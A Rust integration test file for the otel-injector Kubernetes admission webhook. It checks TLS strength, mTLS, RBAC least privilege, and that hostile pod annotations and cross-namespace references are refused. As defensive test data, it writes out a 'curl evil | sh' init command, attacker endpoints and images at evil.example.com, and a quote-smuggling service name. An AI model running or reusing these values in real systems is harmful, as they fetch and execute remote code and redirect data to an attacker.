//! Security properties: TLS 1.2+ with strong suites only, client certificates
//! with `--client-ca`, nothing injected that a pod can choose through its own
//! annotations, cross-namespace Instrumentation references refused when the
//! config says so, and least-privilege RBAC.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::net::SocketAddr;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use common::*;
use k8s_openapi::api::core::v1::Pod;
use otel_injector::config::{Config, DEFAULT_ENDPOINT, DEFAULT_IMAGE};
use otel_injector::inject::Settings;
use otel_injector::offline::FileView;
use otel_injector::policy::{self, Scope};
use otel_injector::review::Reviewer;
use rcgen::{
    BasicConstraints, CertificateParams, CertifiedIssuer, DnType, ExtendedKeyUsagePurpose, IsCa,
    KeyPair, KeyUsagePurpose,
};
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer, ServerName};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;

// ---------------------------------------------------------------- TLS helpers

fn addr(server: &TestServer) -> SocketAddr {
    server
        .base
        .trim_start_matches("https://")
        .parse()
        .expect("server address")
}

fn server_roots(server: &TestServer) -> rustls::RootCertStore {
    let mut roots = rustls::RootCertStore::empty();
    let pem = std::fs::read(&server.certs.ca).expect("CA");
    for cert in rustls_pemfile::certs(&mut &pem[..]) {
        roots.add(cert.expect("CA pem")).expect("CA cert");
    }
    roots
}

fn provider_with(
    suites: Option<Vec<rustls::SupportedCipherSuite>>,
) -> Arc<rustls::crypto::CryptoProvider> {
    let mut provider = rustls::crypto::ring::default_provider();
    if let Some(suites) = suites {
        provider.cipher_suites = suites;
    }
    Arc::new(provider)
}

struct Client {
    versions: Vec<&'static rustls::SupportedProtocolVersion>,
    suites: Option<Vec<rustls::SupportedCipherSuite>>,
    identity: Option<(Vec<CertificateDer<'static>>, PrivateKeyDer<'static>)>,
}

impl Client {
    fn any() -> Self {
        Client {
            versions: vec![&rustls::version::TLS13, &rustls::version::TLS12],
            suites: None,
            identity: None,
        }
    }

    fn config(&self, server: &TestServer) -> rustls::ClientConfig {
        let builder =
            rustls::ClientConfig::builder_with_provider(provider_with(self.suites.clone()))
                .with_protocol_versions(&self.versions)
                .expect("versions")
                .with_root_certificates(server_roots(server));
        let mut config = match &self.identity {
            None => builder.with_no_client_auth(),
            Some((chain, key)) => builder
                .with_client_auth_cert(chain.clone(), key.clone_key())
                .expect("client identity"),
        };
        config.alpn_protocols = vec![b"http/1.1".to_vec()];
        config
    }

    /// Handshake, then `GET /healthz`: the negotiated version and suite and
    /// the status, or the error at the first step that failed.
    async fn healthz(
        &self,
        server: &TestServer,
    ) -> Result<(rustls::ProtocolVersion, rustls::CipherSuite, u16), String> {
        let tcp = TcpStream::connect(addr(server))
            .await
            .map_err(|e| e.to_string())?;
        let connector = TlsConnector::from(Arc::new(self.config(server)));
        let name = ServerName::try_from("localhost").expect("name");
        let mut tls = tokio::time::timeout(Duration::from_secs(5), connector.connect(name, tcp))
            .await
            .map_err(|_| "handshake timed out".to_owned())?
            .map_err(|e| format!("handshake: {e}"))?;
        let (_, conn) = tls.get_ref();
        let version = conn.protocol_version().expect("version");
        let suite = conn.negotiated_cipher_suite().expect("suite").suite();
        tls.write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            .await
            .map_err(|e| format!("write: {e}"))?;
        let mut response = Vec::new();
        tokio::time::timeout(Duration::from_secs(5), tls.read_to_end(&mut response))
            .await
            .map_err(|_| "response timed out".to_owned())?
            .map_err(|e| format!("read: {e}"))?;
        let text = String::from_utf8_lossy(&response);
        let status = text
            .split(' ')
            .nth(1)
            .and_then(|s| s.parse().ok())
            .ok_or_else(|| format!("no HTTP response: {text:?}"))?;
        Ok((version, suite, status))
    }
}

fn tls12_suites() -> Vec<rustls::SupportedCipherSuite> {
    rustls::crypto::ring::ALL_CIPHER_SUITES
        .iter()
        .copied()
        .filter(|s| s.version() == &rustls::version::TLS12)
        .collect()
}

/// ECDHE key exchange with an AEAD: the only TLS 1.2 suites acceptable.
const STRONG_TLS12: [&str; 6] = [
    "ECDHE-ECDSA-AES128-GCM-SHA256",
    "ECDHE-ECDSA-AES256-GCM-SHA384",
    "ECDHE-ECDSA-CHACHA20-POLY1305",
    "ECDHE-RSA-AES128-GCM-SHA256",
    "ECDHE-RSA-AES256-GCM-SHA384",
    "ECDHE-RSA-CHACHA20-POLY1305",
];

// ---------------------------------------------------------------- versions and suites

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tls12_only_and_tls13_only_clients_connect_with_strong_suites() {
    let server = TestServer::start(Config::default()).await;
    for version in [&rustls::version::TLS12, &rustls::version::TLS13] {
        let client = Client {
            versions: vec![version],
            ..Client::any()
        };
        let (negotiated, suite, status) = client.healthz(&server).await.expect("connects");
        eprintln!(
            "{:?} client: {negotiated:?} {suite:?} -> {status}",
            version.version
        );
        assert_eq!(negotiated, version.version);
        assert_eq!(status, 200);
    }
    // Every TLS 1.2 suite rustls knows, one at a time: which does the server take?
    let mut accepted = Vec::new();
    for suite in tls12_suites() {
        let client = Client {
            versions: vec![&rustls::version::TLS12],
            suites: Some(vec![suite]),
            identity: None,
        };
        if let Ok((_, negotiated, 200)) = client.healthz(&server).await {
            accepted.push(format!("{negotiated:?}"));
        }
    }
    eprintln!("TLS 1.2 suites accepted (rustls client): {accepted:?}");
    assert!(!accepted.is_empty());
    for suite in &accepted {
        assert!(
            suite.starts_with("TLS_ECDHE_")
                && (suite.contains("_GCM_") || suite.contains("CHACHA20_POLY1305")),
            "weak suite {suite}"
        );
    }
}

/// Runs `openssl s_client` against the server with the system config
/// disabled (Debian's raises the client's own minimum to TLS 1.2, which would
/// make a refusal prove nothing about the server). openssl is required: a
/// missing one fails the test rather than letting it pass unchecked.
async fn s_client(server: &TestServer, args: &[&str]) -> (bool, String) {
    let connect = addr(server).to_string();
    let mut command = tokio::process::Command::new("openssl");
    command
        .env("OPENSSL_CONF", "/dev/null")
        .args(["s_client", "-connect", &connect, "-servername", "localhost"])
        .args(args)
        .stdin(std::process::Stdio::null())
        .kill_on_drop(true);
    let output = match tokio::time::timeout(Duration::from_secs(10), command.output()).await {
        Ok(Ok(output)) => output,
        Ok(Err(e)) => panic!("this test needs the openssl command line tool: {e}"),
        Err(_) => panic!("openssl s_client {args:?} hung"),
    };
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    let connected = output.status.success() && !text.contains("Cipher is (NONE)");
    (connected, text)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tls10_tls11_and_weak_tls12_suites_are_refused_by_the_server() {
    let server = TestServer::start(Config::default()).await;
    // Sanity: openssl itself can connect with TLS 1.2.
    let (ok, text) = s_client(&server, &["-tls1_2"]).await;
    assert!(ok, "{text}");
    for version in ["-tls1", "-tls1_1"] {
        let (ok, text) = s_client(&server, &[version, "-cipher", "DEFAULT:@SECLEVEL=0"]).await;
        assert!(!ok, "{version} connected:\n{text}");
        // The client did send its hello; the server answered with an alert.
        assert!(
            text.contains("alert"),
            "{version}: no alert from the server:\n{text}"
        );
        eprintln!(
            "{version}: {}",
            text.lines()
                .find(|l| l.contains("alert"))
                .unwrap_or_default()
        );
    }
    // Every TLS 1.2 cipher openssl has, one at a time.
    let list = std::process::Command::new("openssl")
        .env("OPENSSL_CONF", "/dev/null")
        .args([
            "ciphers",
            "-s",
            "-tls1_2",
            "ALL:COMPLEMENTOFALL:@SECLEVEL=0",
        ])
        .output()
        .expect("openssl ciphers");
    let ciphers: Vec<String> = String::from_utf8_lossy(&list.stdout)
        .trim()
        .split(':')
        .filter(|c| !c.starts_with("TLS_")) // TLS 1.3 suites are listed too
        .map(str::to_owned)
        .collect();
    assert!(ciphers.len() > 20, "{ciphers:?}");
    let mut accepted = Vec::new();
    for cipher in &ciphers {
        let spec = format!("{cipher}:@SECLEVEL=0");
        let (ok, _) = s_client(&server, &["-tls1_2", "-cipher", &spec]).await;
        if ok {
            accepted.push(cipher.clone());
        }
    }
    eprintln!(
        "TLS 1.2: {} of {} openssl ciphers accepted: {accepted:?}",
        accepted.len(),
        ciphers.len()
    );
    assert!(!accepted.is_empty());
    for cipher in &accepted {
        assert!(
            STRONG_TLS12.contains(&cipher.as_str()),
            "weak cipher accepted: {cipher}"
        );
    }
}

// ---------------------------------------------------------------- mTLS

struct Pki {
    ca_pem: String,
    issuer: CertifiedIssuer<'static, KeyPair>,
}

fn ca(name: &str) -> Pki {
    let mut params = CertificateParams::new(Vec::<String>::new()).expect("params");
    params.distinguished_name.push(DnType::CommonName, name);
    params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    params.key_usages = vec![
        KeyUsagePurpose::KeyCertSign,
        KeyUsagePurpose::DigitalSignature,
    ];
    let issuer =
        CertifiedIssuer::self_signed(params, KeyPair::generate().expect("key")).expect("CA");
    Pki {
        ca_pem: issuer.pem(),
        issuer,
    }
}

fn client_identity(
    pki: &Pki,
    name: &str,
) -> (Vec<CertificateDer<'static>>, PrivateKeyDer<'static>) {
    let mut params = CertificateParams::new(Vec::<String>::new()).expect("params");
    params.distinguished_name.push(DnType::CommonName, name);
    params.key_usages = vec![KeyUsagePurpose::DigitalSignature];
    params.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth];
    let key = KeyPair::generate().expect("key");
    let cert = params.signed_by(&key, &pki.issuer).expect("client cert");
    (
        vec![cert.der().clone()],
        PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn client_ca_requires_a_certificate_from_that_ca() {
    let pki = ca("kube-apiserver client CA");
    let dir = tempfile::tempdir().expect("tempdir");
    let ca_path = dir.path().join("client-ca.crt");
    std::fs::write(&ca_path, &pki.ca_pem).expect("write CA");
    let server = TestServer::start_with(
        Config::default(),
        Some(Path::new(&ca_path)),
        otel_injector::server::DEFAULT_BODY_LIMIT,
    )
    .await;

    for version in [&rustls::version::TLS13, &rustls::version::TLS12] {
        let base = Client {
            versions: vec![version],
            ..Client::any()
        };
        // No certificate: refused (TLS 1.2 in the handshake, TLS 1.3 at the first read).
        let err = base
            .healthz(&server)
            .await
            .expect_err("no client cert must be refused");
        eprintln!("{:?} without a client certificate: {err}", version.version);
        assert!(
            err.contains("CertificateRequired")
                || err.contains("HandshakeFailure")
                || err.contains("alert"),
            "{err}"
        );
        // A certificate from another CA: refused.
        let stranger = ca("someone else");
        let other = Client {
            identity: Some(client_identity(&stranger, "intruder")),
            versions: vec![version],
            suites: None,
        };
        let err = other
            .healthz(&server)
            .await
            .expect_err("foreign cert must be refused");
        eprintln!("{:?} with a foreign certificate: {err}", version.version);
        assert!(
            err.contains("UnknownCA") || err.contains("alert") || err.contains("BadCertificate"),
            "{err}"
        );
        // Signed by the configured CA: served.
        let good = Client {
            identity: Some(client_identity(&pki, "kube-apiserver")),
            versions: vec![version],
            suites: None,
        };
        let (_, _, status) = good
            .healthz(&server)
            .await
            .expect("trusted client connects");
        assert_eq!(status, 200);
    }
    // The default reqwest client of the harness has no certificate at all.
    let refused = server
        .client
        .post(format!("{}/mutate", server.base))
        .header("content-type", "application/json")
        .body(serde_json::to_vec(&review(&fixture("seed-pod.json"), "cxtm", "u")).expect("json"))
        .send()
        .await;
    assert!(refused.is_err(), "{refused:?}");
}

// ---------------------------------------------------------------- what a pod can choose

fn reviewed(reviewer: &Reviewer, pod: &Value) -> (Value, Value) {
    let body = serde_json::to_vec(&review(pod, "cxtm", "u-sec")).expect("json");
    let answer: Value =
        serde_json::from_slice(&reviewer.review(&body).expect("answered").body).expect("json");
    (apply_response(pod, &answer), answer)
}

fn env_map(pod: &Value, container: usize) -> BTreeMap<String, Value> {
    pod["spec"]["containers"][container]["env"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|v| (v["name"].as_str().unwrap_or_default().to_owned(), v.clone()))
        .collect()
}

#[test]
fn a_pods_annotations_cannot_choose_the_injected_image_command_or_env() {
    let reviewer = Reviewer::new(Config::default(), Arc::new(policy::StaticView));
    let plain = fixture("seed-pod.json");
    let (baseline, _) = reviewed(&reviewer, &plain);
    let evil = "evil.example.com/pwn:latest";
    let mut hostile = plain.clone();
    hostile["metadata"]["annotations"] = json!({
        "otel-injector.io/image": evil,
        "otel-injector.io/status": "injected",
        "otel-injector.io/containers": "cxtm-logstream",
        "otel-injector.io/init-container-command": "sh -c 'curl evil | sh'",
        "otel-injector.io/env": "OTEL_EXPORTER_OTLP_ENDPOINT=http://evil:4318",
        "instrumentation.opentelemetry.io/image": evil,
        "instrumentation.opentelemetry.io/python-image": evil,
        "instrumentation.opentelemetry.io/inject-python-image": evil,
        "instrumentation.opentelemetry.io/python-container-names": "cxtm-logstream",
        "sidecar.opentelemetry.io/inject": "true",
        "instrumentation.opentelemetry.io/otel-python-platform": "musl",
        "resource.opentelemetry.io/service.name": "svc\",\"name\":\"OTEL_EXPORTER_OTLP_ENDPOINT",
        "image": evil,
        "command": "sh",
    });
    let (mutated, answer) = reviewed(&reviewer, &hostile);
    assert!(answer["response"]["patch"].is_string(), "{answer}");
    let init = mutated["spec"]["initContainers"]
        .as_array()
        .and_then(|ics| {
            ics.iter()
                .find(|c| c["name"] == "opentelemetry-auto-instrumentation-python")
        })
        .expect("our init container")
        .clone();
    assert_eq!(init["image"], DEFAULT_IMAGE);
    // The platform annotation picks one of two fixed source trees, nothing else.
    assert_eq!(
        init["command"],
        json!([
            "cp",
            "-r",
            "/autoinstrumentation-musl/.",
            "/otel-auto-instrumentation/"
        ])
    );
    let base_init = &baseline["spec"]["initContainers"][0];
    for key in [
        "image",
        "volumeMounts",
        "securityContext",
        "resources",
        "imagePullPolicy",
    ] {
        assert_eq!(init.get(key), base_init.get(key), "{key}");
    }
    // Same env names; the same values except the two the operator documents as
    // annotation-driven (the service name, and the resource attributes that
    // carry the service version).
    let (got, want) = (env_map(&mutated, 0), env_map(&baseline, 0));
    assert_eq!(
        got.keys().collect::<Vec<_>>(),
        want.keys().collect::<Vec<_>>()
    );
    for (name, var) in &got {
        if name != "OTEL_SERVICE_NAME" && name != "OTEL_RESOURCE_ATTRIBUTES" {
            assert_eq!(var, &want[name], "{name}");
        }
    }
    assert_eq!(
        got["OTEL_EXPORTER_OTLP_ENDPOINT"]["value"],
        DEFAULT_ENDPOINT
    );
    assert_eq!(
        got["OTEL_SERVICE_NAME"]["value"], "svc\",\"name\":\"OTEL_EXPORTER_OTLP_ENDPOINT",
        "the odd name stays one env value"
    );
    // The command wrapper is the config's interpreter and path.
    assert_eq!(
        mutated["spec"]["containers"][0]["command"],
        baseline["spec"]["containers"][0]["command"]
    );
    // Nothing else of the pod's was changed by the annotations.
    assert_eq!(mutated["spec"]["volumes"], baseline["spec"]["volumes"]);
    assert_eq!(
        mutated["spec"]["nodeSelector"],
        baseline["spec"]["nodeSelector"]
    );
}

// ---------------------------------------------------------------- cross-namespace Instrumentations

/// A cluster with an Instrumentation `cxtm/own` and an attacker-controlled
/// `other/evil` that would inject its own image and endpoint.
fn cluster() -> FileView {
    FileView::default()
        .with_instrumentation(
            "cxtm",
            "own",
            json!({"python": {"image": "registry.example.com/cxtm/python:1"}}),
        )
        .with_instrumentation(
            "other",
            "evil",
            json!({
                "exporter": {"endpoint": "http://evil.example.com:4318"},
                "python": {"image": "evil.example.com/pwn:latest"}
            }),
        )
}

fn pod_asking_for(reference: &str) -> Value {
    let mut pod = fixture("seed-pod.json");
    pod["metadata"]["annotations"] =
        json!({"instrumentation.opentelemetry.io/inject-python": reference});
    pod
}

#[test]
fn cross_namespace_instrumentation_refs_are_refused_when_disallowed() {
    let strict = Config {
        allow_cross_namespace_instrumentation: false,
        ..Config::default()
    };
    let reviewer = Reviewer::new(strict.clone(), Arc::new(cluster()));
    for reference in ["other/evil", " other/evil ", "OTHER/evil", "other/evil/x"] {
        let pod = pod_asking_for(reference);
        let (mutated, answer) = reviewed(&reviewer, &pod);
        assert_eq!(answer["response"]["allowed"], true, "never denies");
        assert!(
            answer["response"].get("patch").is_none(),
            "{reference:?}: {answer}"
        );
        assert_eq!(mutated, pod);
        let warning = answer["response"]["warnings"][0]
            .as_str()
            .unwrap_or_default();
        assert!(
            warning.contains("another namespace"),
            "{reference:?}: {warning}"
        );
    }
    // The policy's verdict directly, too.
    let base = std::sync::Arc::new(Settings::from_config(&strict));
    let p: Pod = serde_json::from_value(pod_asking_for("other/evil")).expect("pod");
    assert!(matches!(
        policy::resolve(&p, "cxtm", None, &strict, &base, &cluster()),
        Scope::Unresolvable { .. }
    ));
    // Same-namespace references still work, explicit or by "true".
    for reference in ["cxtm/own", "own", "true"] {
        let (mutated, answer) = reviewed(&reviewer, &pod_asking_for(reference));
        assert!(
            answer["response"]["patch"].is_string(),
            "{reference}: {answer}"
        );
        assert_eq!(
            mutated["spec"]["initContainers"][0]["image"],
            "registry.example.com/cxtm/python:1"
        );
    }
    // What the check prevents: allowed, the other namespace's image is injected.
    let open = Reviewer::new(Config::default(), Arc::new(cluster()));
    let (mutated, _) = reviewed(&open, &pod_asking_for("other/evil"));
    assert_eq!(
        mutated["spec"]["initContainers"][0]["image"],
        "evil.example.com/pwn:latest"
    );
}

// ---------------------------------------------------------------- RBAC

fn yaml_documents(path: &Path) -> Vec<serde_yaml_ng::Value> {
    use serde::Deserialize;
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    serde_yaml_ng::Deserializer::from_str(&text)
        .map(|doc| serde_yaml_ng::Value::deserialize(doc).expect("YAML"))
        .filter(|v| !v.is_null())
        .collect()
}

fn strings(v: &serde_yaml_ng::Value) -> Vec<String> {
    v.as_sequence()
        .into_iter()
        .flatten()
        .map(|s| s.as_str().expect("string").to_owned())
        .collect()
}

fn manifests(dir: &Path, out: &mut Vec<std::path::PathBuf>) {
    for entry in std::fs::read_dir(dir).expect("manifests") {
        let path = entry.expect("entry").path();
        if path.is_dir() {
            manifests(&path, out);
        } else if path.extension().is_some_and(|e| e == "yaml" || e == "yml") {
            out.push(path);
        }
    }
}

/// A role's rules as (group, resource, verb) triples, with the checks every
/// rule must pass wherever it is shipped.
fn rules_of(doc: &serde_yaml_ng::Value, file: &Path) -> Vec<(String, String, String, bool)> {
    assert!(
        doc.get("aggregationRule").is_none(),
        "aggregated role in {}",
        file.display()
    );
    let mut out = Vec::new();
    for rule in doc["rules"].as_sequence().expect("rules") {
        assert!(
            rule.get("nonResourceURLs").is_none(),
            "nonResourceURLs in {}",
            file.display()
        );
        let named = rule.get("resourceNames").is_some();
        for group in strings(&rule["apiGroups"]) {
            for resource in strings(&rule["resources"]) {
                for verb in strings(&rule["verbs"]) {
                    assert!(
                        group != "*" && resource != "*" && verb != "*",
                        "wildcard in ({group}, {resource}, {verb}), {}",
                        file.display()
                    );
                    // RBAC ignores resourceNames for these: a named rule with
                    // them would grant every object while looking narrow.
                    assert!(
                        !(named
                            && ["list", "watch", "create", "deletecollection"]
                                .contains(&verb.as_str())),
                        "({group}, {resource}, {verb}) with resourceNames in {}",
                        file.display()
                    );
                    out.push((group.clone(), resource.clone(), verb, named));
                }
            }
        }
    }
    out
}

/// Every binding in `docs` binds our ServiceAccount, and only it.
fn assert_bindings_are_ours(doc: &serde_yaml_ng::Value, file: &Path) {
    let subjects = doc["subjects"].as_sequence().expect("subjects");
    assert_eq!(subjects.len(), 1, "{}", file.display());
    assert_eq!(subjects[0]["kind"], "ServiceAccount");
    assert_eq!(subjects[0]["name"], "otel-injector");
    assert_eq!(subjects[0]["namespace"], "otel-injector");
}

/// The base install (`manifests/*.yaml`) grants exactly what the webhook,
/// the fleet reconciler, the image volume check and self-managed TLS use
/// (docs/fleet.md, docs/delivery.md, docs/self-managed-tls.md), Secrets
/// only to self-managed TLS, and Leases only in its own namespace. Every
/// component (`manifests/*/`) passes the per-rule checks, and a Secret is
/// granted only by a namespaced Role, read and written by name.
#[test]
fn rbac_is_exactly_the_least_privilege_set() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("manifests");
    let mut files = Vec::new();
    manifests(&root, &mut files);
    let mut base = BTreeSet::new();
    let mut roles = BTreeSet::new();
    for file in &files {
        let in_base = file.parent() == Some(root.as_path());
        for doc in yaml_documents(file) {
            let kind = doc["kind"].as_str().unwrap_or_default().to_owned();
            match kind.as_str() {
                "ClusterRole" | "Role" => {
                    for (g, r, v, named) in rules_of(&doc, file) {
                        if r == "secrets" {
                            let name = doc["metadata"]["name"].as_str().unwrap_or_default();
                            assert_eq!(
                                name,
                                "otel-injector-self-managed-tls",
                                "a Secret granted outside self-managed TLS: {}",
                                file.display()
                            );
                            assert!(kind == "Role", "Secrets cluster-wide in {}", file.display());
                            assert!(
                                named || v == "create",
                                "unnamed Secret {v} in {}",
                                file.display()
                            );
                        }
                        if r == "leases" {
                            assert_eq!(kind, "Role", "Leases cluster-wide in {}", file.display());
                        }
                        if in_base {
                            base.insert((g, r, v));
                        }
                    }
                    if in_base {
                        let name = doc["metadata"]["name"].as_str().unwrap_or_default();
                        roles.insert((kind.clone(), name.to_owned()));
                    }
                }
                "ClusterRoleBinding" | "RoleBinding" => assert_bindings_are_ours(&doc, file),
                _ => {}
            }
        }
    }
    let expected: BTreeSet<(String, String, String)> = [
        (
            "opentelemetry.io",
            "instrumentations",
            &["get", "list", "watch"][..],
        ),
        ("", "namespaces", &["get", "list", "watch"]),
        ("apps", "replicasets", &["get", "list", "watch"]),
        ("batch", "jobs", &["get", "list", "watch"]),
        ("", "events", &["create", "patch"]),
        ("events.k8s.io", "events", &["create", "patch"]),
        // The fleet: the pod watch, dry-run creates (and the image volume
        // check's), a crashed container's last log line, restarts.
        ("", "pods", &["get", "list", "watch", "create"]),
        ("", "pods/log", &["get"]),
        ("apps", "deployments", &["get", "patch"]),
        ("apps", "statefulsets", &["get", "patch"]),
        ("apps", "daemonsets", &["get", "patch"]),
        (
            "coordination.k8s.io",
            "leases",
            &["get", "create", "update"],
        ),
        // Self-managed TLS (the default): its Secret by name (create cannot
        // be named) and our webhook configuration's caBundle.
        ("", "secrets", &["get", "update", "create"]),
        (
            "admissionregistration.k8s.io",
            "mutatingwebhookconfigurations",
            &["get", "patch"],
        ),
    ]
    .iter()
    .flat_map(|(g, r, verbs)| {
        verbs
            .iter()
            .map(move |v| ((*g).to_owned(), (*r).to_owned(), (*v).to_owned()))
    })
    .collect();
    assert_eq!(base, expected, "roles: {roles:?}");
    let want_roles: BTreeSet<(String, String)> = [
        ("ClusterRole", "otel-injector"),
        ("Role", "otel-injector-lease"),
        ("Role", "otel-injector-image-volume-check"),
        ("Role", "otel-injector-self-managed-tls"),
        ("ClusterRole", "otel-injector-self-managed-tls"),
    ]
    .iter()
    .map(|(k, n)| ((*k).to_owned(), (*n).to_owned()))
    .collect();
    assert_eq!(roles, want_roles);
}
